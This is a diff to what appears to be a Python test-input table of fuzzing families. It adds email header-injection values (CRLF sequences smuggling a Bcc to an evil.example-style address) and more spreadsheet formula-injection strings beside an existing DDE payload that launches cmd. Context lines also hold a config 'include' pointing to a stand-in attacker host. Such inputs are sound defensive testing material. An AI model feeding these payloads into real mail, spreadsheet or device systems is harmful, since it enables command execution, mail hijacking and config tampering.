@@ -49,7 +49,11 @@ FAMILIES: Final[Mapping[str, Sequence[str]]] = {
         *("include:config <http://evil.example/x.cfg>", "#!version:1.0.0.1", "account.1.password = stolen"),
         *(" = ", "=", ";", ",", "|", "#", "[T54W]", "\\", "\\\\", "true", "0", "-1", "^", "!"),
     ),
-    "formulas": ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"),
+    "headers": (
+        *("=?utf-8?q?=0d=0aBcc:_evil@y.example?=", "=?utf-8?b?DQpYOiB5?=", "=?x?=", "\r\nBcc: x@y.example"),
+        *("x@y.example, z@y.example", "a <b@y.example>", "filename*=utf-8''x", "; boundary=x"),
+    ),
+    "formulas": ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "\uff1d1"),
     "unicode": (
         *("\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u00a0", "\u3000", "e\u0301", "\u0130", "ß"),
         *("ﬃ", "Ω", "漢字", "\U0001f600", "\uff1d", "\uff02", "\ud800", "\udfff", "\ud83d\ude00"),
